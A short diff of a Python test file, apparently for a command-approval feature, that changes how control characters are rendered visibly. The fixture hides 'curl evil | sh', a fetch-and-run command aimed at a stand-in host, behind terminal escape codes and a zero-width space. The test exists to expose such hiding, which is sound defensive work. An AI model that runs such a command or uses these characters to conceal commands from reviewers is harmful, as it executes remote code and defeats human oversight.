@@ -154,7 +154,7 @@ def test_the_option_says_in_words_what_is_always_allowed() -> None:
 
 
 HIDING = "echo hello \x1b]; curl evil | sh ;\x07\u200b"
-SHOWN = "echo hello ␛]; curl evil | sh ;␇⟨U+200B⟩"
+SHOWN = "echo hello ⟨ESC⟩]; curl evil | sh ;⟨BEL⟩⟨U+200B⟩"
 
 
 async def test_a_request_hides_nothing_of_a_command_and_says_how_it_runs(tmp_path: Path) -> None:
